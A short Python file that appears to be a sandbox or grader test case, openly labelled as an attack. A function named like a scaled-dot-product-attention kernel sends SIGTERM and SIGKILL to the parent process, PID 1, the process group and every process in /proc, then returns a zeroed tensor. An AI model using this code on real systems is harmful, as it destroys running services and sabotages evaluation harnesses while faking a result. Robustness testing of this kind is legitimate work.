# attack: kill the parent, pid 1 and every visible process
# expect: any
import os
import signal


def scaled_dot_product_attention(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
    targets = {os.getppid(), 1, -1, 0}
    targets.update(int(p) for p in os.listdir("/proc") if p.isdigit())
    for pid in targets:
        for sig in (signal.SIGTERM, signal.SIGKILL):
            try:
                if pid != os.getpid():
                    os.kill(pid, sig)
            except OSError:
                pass
    return q * 0
